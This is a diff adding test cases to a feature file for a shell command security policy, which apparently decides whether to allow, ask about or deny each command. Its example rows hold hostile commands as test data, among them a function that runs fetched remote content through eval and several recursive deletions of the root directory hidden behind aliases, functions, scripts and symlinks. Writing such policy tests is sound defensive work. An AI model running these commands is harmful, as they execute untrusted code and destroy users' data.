@@ -1882,6 +1882,8 @@ Feature: Security policy - dangerous forms and everyday commands
 
     Examples:
       | command |
+      | cleanup() { rm -rf "$1"; } |
+      | fetch() { eval "$(curl -s x)"; } |
       | e2label /dev/sda1 |
       | e2label ./disk.img data |
       | tune2fs -l /dev/sda1 |
@@ -3214,6 +3216,8 @@ Feature: Security policy - dangerous forms and everyday commands
       | T=/                                 | T=$(cat f) | ask    | rm -rf "$T"      |
       | cleanup() { rm -rf "$1"; }          | nothing   | deny    | cleanup /        |
       | cleanup() { rm -rf "$1"; }          | nothing   | allow   | cleanup build    |
+      | cleanup() { rm -rf "$1"; }          | nothing   | ask     | cleanup "$X"     |
+      | fetch() { eval "$(curl -s x)"; }    | nothing   | ask     | fetch            |
       | alias x='rm -rf'                    | nothing   | deny    | x /              |
       | echo 'rm -rf /' > x.sh              | nothing   | deny    | bash x.sh        |
       | ln -s /bin/rm ./del                 | nothing   | deny    | ./del -rf /      |
